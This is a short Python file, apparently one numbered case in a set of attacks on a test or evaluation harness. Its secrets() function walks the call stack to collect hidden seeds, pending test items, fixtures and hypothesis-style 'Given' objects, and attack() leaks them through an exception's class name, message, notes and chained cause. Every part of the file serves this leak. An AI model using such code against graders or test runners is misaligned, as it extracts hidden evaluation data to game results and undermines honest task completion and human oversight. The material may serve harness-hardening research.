"""Row 16: puts inputs, seeds and the list of what is to run into exceptions: message, type's name, notes, function's name.

Where: import, init, forward
"""

import torch
from torch import nn, sys


def secrets(x=None):
    """What only a hidden run knows: the inputs' values, the seed, what waits to be run."""
    found = [] if x is None else [repr(value) for value in x.flatten()[:6].tolist()]
    frame = sys._getframe()
    while frame:
        for name, value in frame.f_locals.items():
            if name in ("seed", "item", "items", "message", "fixtures") or type(value).__name__ == "Given":
                found.append(f"{name}={getattr(value, '_seed', value)!r}"[:400])
        frame = frame.f_back
    return " ".join(found)


def attack(lstm=None, x=None, states=None):
    said = secrets(x)
    kind = type("E" + "".join(letter for letter in said if letter.isalnum())[:200], (Exception,), {})
    error = kind(said)
    error.add_note(said)
    raise error from ValueError(said)
